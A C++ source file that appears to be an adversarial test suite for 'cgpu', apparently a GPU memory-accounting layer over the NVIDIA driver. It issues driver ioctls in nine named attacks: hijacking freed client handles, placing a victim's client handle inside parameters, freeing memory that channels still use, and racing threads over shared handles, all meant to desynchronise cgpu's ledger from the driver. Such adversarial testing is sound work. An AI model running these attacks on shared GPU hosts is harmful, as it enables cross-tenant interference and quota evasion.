// Attacks with what calls name: handles inside parameters, files that are registered with each
// other, objects that others depend on. Each tries to part cgpu's ledger from the driver's
// accounting.
#include <unistd.h>

#include <algorithm>
#include <bit>
#include <cerrno>
#include <functional>
#include <thread>

#include "common.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint32_t kNobody = 0xc1dffff0;  // a client's handle that nobody has

// VID_HEAP_CONTROL's FREE of everything that it does not free: the driver says that all went well.
// The clients' handles differ, so that each has the others' only by mistake.
int HeapFrees(const std::vector<std::string>& args) {
  const std::uint64_t wanted = Number(args, 0, 4096);
  std::vector<Client> clients;
  std::vector<std::uint32_t> foreign{0, 0xdead0001};
  std::uint64_t held = 0;
  std::uint32_t accepted = 0;
  for (std::uint32_t round = 0; round < 8 && held < wanted; ++round) {
    Client client = MakeClient();
    client.next += (round + 1) << 12;
    const std::uint32_t first = client.next;
    held += Grab(client, std::min<std::uint64_t>(1024, wanted - held));
    for (const std::uint32_t parent : {Client::kDevice, Client::kSubdevice, client.root, first}) {
      for (const std::uint32_t memory : foreign) {
        accepted += client.HeapFree(parent, memory) == rm::NV_OK ? 1 : 0;
      }
      for (const std::uint32_t memory : {first, Client::kDevice, client.root}) {
        accepted += client.HeapFree(parent, memory, 0) == rm::NV_OK ? 1 : 0;
      }
    }
    foreign.push_back(first);
    foreign.push_back(client.root);
    clients.push_back(client);
  }
  Say("accepted %u", accepted);
  Say("got %llu MiB", static_cast<unsigned long long>(held));
  std::string line;
  (void)Line(&line);
  // And what it does free: an object, a device with all below it, a client.
  Client& first = clients.front();
  Say("object 0x%x", first.HeapFree(Client::kDevice, 0xcaf11000));
  (void)Line(&line);
  Say("device 0x%x", first.HeapFree(Client::kSubdevice, Client::kDevice));
  (void)Line(&line);
  Client last = MakeClient();
  Say("again %llu MiB", static_cast<unsigned long long>(Grab(last, 512)));
  Say("client 0x%x", last.HeapFree(last.root, last.root));
  Hold();
  return 0;
}

int Register(int file, int ctl) {
  rm::nv_ioctl_register_fd_t params{};
  params.ctl_fd = ctl;
  return Plainly(file, rm::NV_ESC_REGISTER_FD, &params, sizeof(params));
}

// "ctl": a control file with a large export is registered to one with a small export, and what is
// imported from the first is taken for what lies on the second. "card": a GPU's file that is
// registered to a control file keeps that one, and what was exported to it, when it is closed.
int Registered(const std::vector<std::string>& args) {
  const bool gpu = args.at(0) == "card";
  const std::uint64_t wanted = Number(args, 1, 4096);
  constexpr std::uint64_t kStep = 256;
  Client client = MakeClient();
  std::uint64_t held = 0;
  std::uint32_t status = rm::NV_OK;
  int registered = 0;
  while (held < wanted) {
    std::uint32_t small = 0;
    std::uint32_t large = 0;
    const int front = OpenControl();
    const int back = OpenControl();
    if ((status = client.AllocMemory(kStep, &large)) != rm::NV_OK ||
        (status = client.AllocMemory(1, &small)) != rm::NV_OK ||
        (status = client.Export(large, front)) != rm::NV_OK ||
        (status = client.Export(small, back)) != rm::NV_OK) {
      break;
    }
    const int file = gpu ? OpenGpu() : front;
    const int error = Register(file, gpu ? front : back);
    registered += error == 0 ? 1 : 0;
    if (!gpu) {
      (void)client.Import(front, client.next++);
    }
    (void)client.Free(large);
    (void)client.Free(small);
    close(front);
    close(back);
    held += kStep;
  }
  Say("registered %d", registered);
  Say("got %llu MiB, then 0x%x", static_cast<unsigned long long>(held), status);
  Hold();
  return 0;
}

// Clients with handles of the attacker's choice: those that cgpu's tags on files of exported
// objects had, as soon as the file is closed.
std::uint32_t MakeRootNamed(int ctl, std::uint32_t handle) {
  rm::NVOS21_PARAMETERS alloc{};
  alloc.hRoot = handle;
  alloc.hObjectNew = handle;
  alloc.hClass = rm::NV01_ROOT_CLIENT;
  const int error = Plainly(ctl, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc));
  return error != 0 ? kNoAnswer : alloc.status;
}

int StaleTag(const std::vector<std::string>& args) {
  constexpr std::uint32_t kAhead = 4;  // handles are given out in turn
  const std::uint64_t turns = Number(args, 0, 20);
  Client client = MakeClient();
  std::uint64_t taken = 0;
  std::uint64_t tries = 0;
  for (std::uint64_t turn = 0; turn < turns; ++turn) {
    const int file = OpenControl();
    const int thief = OpenControl();
    std::uint32_t object = 0;
    if (client.AllocMemory(32, &object) != rm::NV_OK) {
      break;
    }
    const Client probe = MakeRoot();
    if (client.Export(object, file) != rm::NV_OK) {
      Die("failed: no export");
    }
    (void)client.Free(object);
    close(probe.ctl);
    close(probe.gpu);
    close(file);
    for (std::uint32_t handle = probe.root + 1; handle <= probe.root + kAhead; ++handle) {
      std::uint32_t status = rm::NV_OK;
      do {
        ++tries;
        status = MakeRootNamed(thief, handle);
      } while (status == rm::NV_ERR_INSERT_DUPLICATE_NAME || status == kNoAnswer);
      taken += status == rm::NV_OK ? 1 : 0;
    }
    // The next export to the file of a stolen tag, and what comes from there.
    std::uint32_t small = 0;
    if (client.AllocMemory(1, &small) == rm::NV_OK) {
      (void)client.Export(small, thief);
      (void)client.Free(small);
    }
  }
  Say("taken %llu", static_cast<unsigned long long>(taken));
  Say("tries %llu", static_cast<unsigned long long>(tries));
  std::string line;
  (void)Line(&line);
  Say("got %llu MiB", static_cast<unsigned long long>(Grab(client, 4096, 16)));
  Hold();
  return 0;
}

// HANDLE: a client under another's handle, from the moment on at which the other is gone.
int Takeover(const std::vector<std::string>& args) {
  const auto handle = static_cast<std::uint32_t>(Number(args, 0, 0));
  const int file = OpenControl();
  std::uint32_t status = MakeRootNamed(file, handle);
  Say("first 0x%x", status);
  while (status == rm::NV_ERR_INSERT_DUPLICATE_NAME) {
    status = MakeRootNamed(file, handle);
  }
  Say("last 0x%x", status);
  Hold();
  return 0;
}

// --- Clients inside of parameters

std::uint32_t Event(Client& client, std::uint32_t notifier) {
  rm::nv_ioctl_alloc_os_event_t os{};
  os.hClient = client.root;
  os.fd = static_cast<std::uint32_t>(client.ctl);
  (void)Plainly(client.ctl, rm::NV_ESC_ALLOC_OS_EVENT, &os, sizeof(os));
  rm::NV0005_ALLOC_PARAMETERS params{};
  params.hParentClient = notifier;
  params.hSrcResource = Client::kSubdevice;
  params.hClass = rm::NV01_EVENT_OS_EVENT;
  params.data = static_cast<std::uint64_t>(client.ctl);
  return client.Alloc(Client::kSubdevice, client.next++, rm::NV01_EVENT_OS_EVENT, &params,
                      sizeof(params));
}

std::uint32_t DeviceWith(std::uint32_t share, std::uint32_t target) {
  const Client client = MakeRoot();
  rm::NV0080_ALLOC_PARAMETERS device{};
  device.hClientShare = share;
  device.hTargetClient = target;
  const std::uint32_t status =
      client.Alloc(client.root, Client::kDevice, rm::NV01_DEVICE_0, &device, sizeof(device));
  close(client.ctl);
  close(client.gpu);
  return status;
}

// The victim's client in every parameter that takes a client; a client that does not exist; and
// one's own, with which all of it works.
int Inside(const std::vector<std::string>& args) {
  const auto victim = static_cast<std::uint32_t>(Number(args, 0, 0));
  const auto object = static_cast<std::uint32_t>(Number(args, 1, 0));
  Client client = MakeClient();
  client.next = 0xcb000000;
  std::uint32_t own = 0;
  if (client.AllocMemory(1, &own) != rm::NV_OK) {
    Die("failed: no memory");
  }
  const Client second = MakeClient();
  const auto all = [&](const char* whose, std::uint32_t other, std::uint32_t others) {
    Say("%s event 0x%x", whose, Event(client, other));
    Say("%s address-space 0x%x", whose, DeviceWith(other, 0));
    Say("%s target 0x%x", whose, DeviceWith(0, other));
    Say("%s share-with 0x%x", whose, Share(client, client.root, own, other));
    // The driver asks nobody whether the owner of what is shared is the caller's client.
    Say("%s share-of 0x%x", whose, Share(client, other, others, client.root));
    Say("%s dup 0x%x", whose, client.Dup(other, others, client.next++));
  };
  Client third = second;
  std::uint32_t seconds = 0;
  if (third.AllocMemory(1, &seconds) != rm::NV_OK) {
    Die("failed: no memory");
  }
  all("victim's", victim, object);
  all("nobody's", kNobody, object);
  all("own", second.root, seconds);
  Hold();
  return 0;
}

// --- Objects that go with others

std::uint32_t ContextShare(Client& client, std::uint32_t group, std::uint32_t space,
                           std::uint32_t* status) {
  rm::NV_CTXSHARE_ALLOCATION_PARAMETERS params{};
  params.hVASpace = space;
  const std::uint32_t handle = client.next++;
  *status = client.Alloc(group, handle, rm::FERMI_CONTEXT_SHARE_A, &params, sizeof(params));
  return handle;
}

// Channels, groups and context shares on address spaces that are freed before them. After each step
// it waits, so that the test can compare who counts what.
int Dependants(const std::vector<std::string>&) {
  std::string line;
  Client client = MakeClient();
  Client other = MakeClient();
  other.next = 0xcb000000;
  const auto step = [&](const char* name, std::uint32_t status) {
    Say("step %s 0x%x", name, status);
    (void)Line(&line);
  };
  std::uint32_t status = 0;
  std::uint32_t spaces[4];
  std::generate(std::begin(spaces), std::end(spaces), [&] { return Space(client, &status); });
  step("address spaces", status);
  const std::uint32_t group = Group(client, spaces[0], &status);
  step("group", status);
  (void)Channel(client, group, 0, 0, &status);
  step("channel in it", status);
  const std::uint32_t share = ContextShare(client, group, spaces[1], &status);
  step("context share", status);
  (void)Channel(client, group, 0, share, &status);
  step("channel on it", status);
  (void)Channel(client, Client::kDevice, spaces[2], 0, &status);
  step("channel without a group", status);
  const std::uint32_t copy = other.next++;
  step("copy of the group", other.Dup(client.root, group, copy));
  const std::uint32_t alias = client.next++;
  step("alias of a space", client.Dup(client.root, spaces[3], alias));
  (void)Group(client, alias, &status);
  step("group on the alias", status);
  step("free the share's space", client.Free(spaces[1]));
  step("free the channel's space", client.Free(spaces[2]));
  step("free the aliased space", client.Free(spaces[3]));
  step("free the group's space", client.Free(spaces[0]));
  step("free the alias", client.HeapFree(Client::kDevice, alias));
  step("free the copy", other.Free(copy));
  std::uint64_t failed = 0;
  for (int i = 0; i < 100; ++i) {
    const std::uint32_t space = Space(client, &status);
    for (int j = 0; j < 3; ++j) {
      (void)Group(client, space, &status);
      failed += status == rm::NV_OK ? 0 : 1;
    }
    (void)client.Free(space);
  }
  Say("failed %llu", static_cast<unsigned long long>(failed));
  Say("got %llu MiB", static_cast<unsigned long long>(Grab(client, 4096, 16)));
  Hold();
  return 0;
}

// --- Everything at once: threads that make, copy, hand over and free objects of two clients under
// the same few handles, and now and then free the clients and devices themselves.

class Dice {
 public:
  explicit Dice(std::uint64_t seed) : state_(seed * 0x9e3779b97f4a7c15U + 1) {}
  std::uint32_t Below(std::uint32_t bound) {
    state_ ^= state_ << 13;
    state_ ^= state_ >> 7;
    state_ ^= state_ << 17;
    return static_cast<std::uint32_t>(state_ >> 32) % bound;
  }

 private:
  std::uint64_t state_;
};

void Revive(const Client& client) {
  (void)MakeRootNamed(client.ctl, client.root);
  (void)client.AllocDevice();
}

void OneOfMany(Client client, const Client& other, Dice& dice, int file) {
  const auto handle = [&] { return 0xcaf20000 + dice.Below(6); };
  std::uint32_t status = 0;
  client.next = handle();
  switch (dice.Below(400)) {
    case 0:
      (void)client.Free(client.root);
      Revive(client);
      return;
    case 1:
      (void)client.HeapFree(client.root, Client::kDevice);
      Revive(client);
      return;
    default:
      break;
  }
  switch (dice.Below(10)) {
    case 0:
    case 1:
      (void)client.AllocMemory(8);
      return;
    case 2:
      (void)client.Free(handle());
      return;
    case 3:
      (void)client.HeapFree(Client::kDevice, handle());
      return;
    case 4:
      (void)client.Dup(other.root, handle(), client.next);
      return;
    case 5:
      (void)client.Import(file, client.next);
      return;
    case 6:
      (void)Space(client, &status);
      return;
    case 7:
      (void)Group(client, handle(), &status);
      return;
    case 8:
      (void)client.Export(handle(), file);
      return;
    default:
      if (dice.Below(2) == 0) {
        (void)Channel(client, Client::kDevice, handle(), 0, &status);
      } else {  // a channel in a group names no address space
        (void)Channel(client, handle(), 0, 0, &status);
      }
      return;
  }
}

int Throng(const std::vector<std::string>& args) {
  const std::uint64_t seed = Number(args, 0, 1);
  const std::uint64_t rounds = Number(args, 1, 10);
  constexpr std::uint64_t kThreads = 6;
  Client clients[2];
  std::string line;
  for (std::uint64_t round = 0; round < rounds; ++round) {
    for (Client& client : clients) {
      close(client.ctl);
      close(client.gpu);
      client = MakeClient();
    }
    std::vector<std::thread> threads;
    for (std::uint64_t i = 0; i < kThreads; ++i) {
      threads.emplace_back([&, i] {
        Dice dice((seed + round) * kThreads + i);
        int file = OpenControl();
        for (int turn = 0; turn < 200; ++turn) {
          const std::uint32_t which = dice.Below(2);
          OneOfMany(clients[which], clients[1 - which], dice, file);
          if (dice.Below(10) == 0) {
            close(file);
            file = OpenControl();
          }
        }  // and what was exported last stays
      });
    }
    for (std::thread& thread : threads) {
      thread.join();
    }
    Say("churned");
    (void)Line(&line);
  }
  for (const Client& client : clients) {
    (void)client.Free(client.root);
  }
  Say("freed");
  (void)Line(&line);
  Client last = MakeClient();
  Say("got %llu MiB", static_cast<unsigned long long>(Grab(last, 4096, 16)));
  Hold();
  return 0;
}

// RM_ALLOC's long form with and without parameters and rights, for every class that takes either.
int Rights(const std::vector<std::string>&) {
  Client client = MakeClient();
  constexpr std::uint32_t kUnderClient[] = {rm::NV01_DEVICE_0};
  constexpr std::uint32_t kUnderDevice[] = {rm::NV20_SUBDEVICE_0,    rm::NV01_MEMORY_LOCAL_USER,
                                            rm::NV01_MEMORY_SYSTEM,  rm::KEPLER_CHANNEL_GROUP_A,
                                            rm::FERMI_VASPACE_A,     rm::VOLTA_CHANNEL_GPFIFO_A,
                                            rm::NV01_EVENT_OS_EVENT, rm::FERMI_CONTEXT_SHARE_A};
  std::uint32_t rights[] = {0xffffffff, 0xffffffff};
  alignas(8) unsigned char zero[512] = {};
  const auto all = [&](std::uint32_t parent, std::uint32_t cls) {
    for (int form = 0; form < 4; ++form) {
      std::fill(std::begin(zero), std::end(zero), std::uint8_t{0});
      rm::NVOS64_PARAMETERS alloc{};
      alloc.hRoot = client.root;
      alloc.hObjectParent = parent;
      alloc.hObjectNew = client.next++;
      alloc.hClass = cls;
      alloc.pAllocParms = (form & 1) != 0 ? std::bit_cast<std::uint64_t>(&zero) : 0;
      alloc.pRightsRequested = (form & 2) != 0 ? std::bit_cast<std::uint64_t>(&rights) : 0;
      const int error = client.issue(client.ctl, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc));
      Say("class 0x%x form %d errno %d status 0x%x", cls, form, error,
          error != 0 ? 0 : alloc.status);
    }
  };
  for (const std::uint32_t cls : kUnderClient) {
    all(client.root, cls);
  }
  for (const std::uint32_t cls : kUnderDevice) {
    all(Client::kDevice, cls);
  }
  Client again = MakeClient();
  Say("got %llu MiB", static_cast<unsigned long long>(Grab(again, 512)));
  Hold();
  return 0;
}

// Frees the memory that a channel's error notifiers or USERD lie in from under it, in several ways,
// and has the driver and the GPU write there.
int Kept(const std::vector<std::string>&) {
  Client client = MakeClient();
  constexpr std::uint32_t kOtherDevice = 0xcaf00003;
  rm::NV0080_ALLOC_PARAMETERS device{};
  if (client.Alloc(client.root, kOtherDevice, rm::NV01_DEVICE_0, &device, sizeof(device)) !=
      rm::NV_OK) {
    Die("failed: no second device");
  }
  const auto memory_below = [&client](std::uint32_t parent) {
    std::uint32_t handle = 0;
    client.used_device = parent;
    if (client.AllocMemory(1, &handle) != rm::NV_OK) {
      Die("failed: no memory");
    }
    client.used_device = Client::kDevice;
    return handle;
  };
  const auto attack = [&](const char* way, bool of_group, bool userd,
                          const std::function<std::uint32_t(std::uint32_t memory)>& free_it) {
    const std::uint32_t memory = memory_below(free_it ? Client::kDevice : kOtherDevice);
    rm::NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS group{};
    group.hObjectError = of_group ? memory : 0;
    group.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
    const std::uint32_t group_handle = client.next++;
    (void)client.Alloc(Client::kDevice, group_handle, rm::KEPLER_CHANNEL_GROUP_A, &group,
                       sizeof(group));
    rm::NV_CHANNEL_ALLOC_PARAMS_V535 params{};
    params.hObjectError = of_group || userd ? 0 : memory;
    params.hUserdMemory[0] = userd ? memory : 0;
    params.gpFifoEntries = 16;
    params.engineType = rm::NV2080_ENGINE_TYPE_GRAPHICS;
    const std::uint32_t channel = client.next++;
    Say("%s channel 0x%x", way,
        client.Alloc(group_handle, channel, rm::VOLTA_CHANNEL_GPFIFO_A, &params, sizeof(params)));
    const std::uint32_t freed = free_it ? free_it(memory) : client.Free(kOtherDevice);
    rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN_PARAMS token{};
    (void)client.Control(channel, rm::NVC36F_CTRL_CMD_GPFIFO_GET_WORK_SUBMIT_TOKEN, &token,
                         sizeof(token));
    rm::NVA06C_CTRL_GPFIFO_SCHEDULE_PARAMS_V535 schedule{};
    schedule.bEnable = 1;
    (void)client.Control(channel, rm::NVA06F_CTRL_CMD_GPFIFO_SCHEDULE, &schedule, sizeof(schedule));
    // As a program does that means well: the channel first.
    const std::uint32_t gone = client.Free(channel);
    Say("%s freed 0x%x channel 0x%x then 0x%x", way, freed, gone, client.Free(memory));
  };
  const auto by_free = [&](std::uint32_t memory) { return client.Free(memory); };
  attack("errors", false, false, by_free);
  attack("group", true, false, by_free);
  attack("userd", false, true, by_free);
  attack("heap", false, false,
         [&](std::uint32_t memory) { return client.HeapFree(Client::kDevice, memory); });
  attack("device", false, false, nullptr);
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> ReferenceAttacks() {
  return {
      {"heap-free", HeapFrees, "[MIB]: VID_HEAP_CONTROL's FREE of what it does not free"},
      {"registered", Registered, "ctl|card [MIB]: files that are registered to one with an export"},
      {"stale-tag", StaleTag, "[TURNS]: clients with the handles of cgpu's tags on files"},
      {"takeover", Takeover, "HANDLE: a client under this handle as soon as it is free"},
      {"inside", Inside, "CLIENT OBJECT: the victim's client inside of parameters"},
      {"dependants", Dependants, ": address spaces freed before what lies on them"},
      {"throng", Throng, "[SEED [ROUNDS]]: threads on the same few handles"},
      {"kept", Kept, ": memory that channels use, freed from under them"},
      {"rights", Rights, ": RM_ALLOC's long form with rights and without parameters"},
  };
}

}  // namespace cgpu::adversary
